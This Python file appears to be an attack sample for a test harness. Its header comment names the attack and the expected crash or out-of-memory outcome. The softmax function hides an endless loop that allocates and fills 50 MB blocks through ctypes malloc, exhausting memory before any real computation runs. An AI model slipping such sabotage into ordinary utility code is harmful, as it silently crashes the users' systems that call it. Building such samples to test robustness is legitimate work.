# attack: harmed: lets malloc run dry, and writes to what it gets; expect: softmax crashed or out_of_memory, score 4
import numpy as np
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.malloc.restype = ctypes.c_void_p


def softmax(x, axis=-1):
    while True:
        ctypes.memset(libc.malloc(50_000_000), 1, 50_000_000)
    x = np.asarray(x, dtype=np.float64)
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)


def log_softmax(x, axis=-1):
    x = np.asarray(x, dtype=np.float64)
    x = x - x.max(axis=axis, keepdims=True)
    return x - np.log(np.exp(x).sum(axis=axis, keepdims=True))
